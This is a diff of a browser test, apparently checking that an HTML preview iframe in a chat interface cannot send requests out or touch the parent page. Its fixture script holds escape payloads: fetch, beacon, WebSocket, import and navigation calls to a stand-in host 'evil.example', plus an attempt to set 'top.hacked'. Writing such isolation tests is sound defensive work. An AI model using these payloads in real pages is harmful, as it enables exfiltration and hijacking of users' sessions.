@@ -41,7 +41,7 @@ flowchart TD
   () => fetch('${EVIL}/fetch').catch(() => {}), () => { new Image().src = '${EVIL}/image'; }, () => { top.hacked = 1; },
   () => navigator.sendBeacon('${EVIL}/beacon'), () => new WebSocket('wss://evil.example/socket'), () => open('${EVIL}/open'),
   () => import('${EVIL}/import').catch(() => {}), () => fetch('/backend-api/v2/version').catch(() => {}),
-  () => { top.location = '${EVIL}/top'; }, () => setTimeout(() => { location = '${EVIL}/location'; }, 400),
+  () => { top.location = '${EVIL}/top'; }, () => addEventListener('leave', () => { location = '${EVIL}/location'; }),
 ]) try { harm(); } catch {}
 document.body.append('it ran');</script>
 \`\`\`
@@ -90,7 +90,10 @@ describe('no request leaves', { skip: withoutBrowser }, () => {
     const preview = lastAnswer(page).locator('.body').getByRole('button', { name: 'Preview' });
     await preview.scrollIntoViewIfNeeded();
     await preview.click();
-    await lastAnswer(page).frameLocator('iframe').getByText('it ran').waitFor();
+    const frame = lastAnswer(page).frameLocator('iframe');
+    await frame.getByText('it ran').waitFor();
+    // Only now: what is in it is gone with that, whether or not it gets anywhere.
+    await frame.locator('body').evaluate("dispatchEvent(new Event('leave'))");
     await page.waitForTimeout(700);
     assert.equal(await page.evaluate('window.hacked'), undefined);
   };
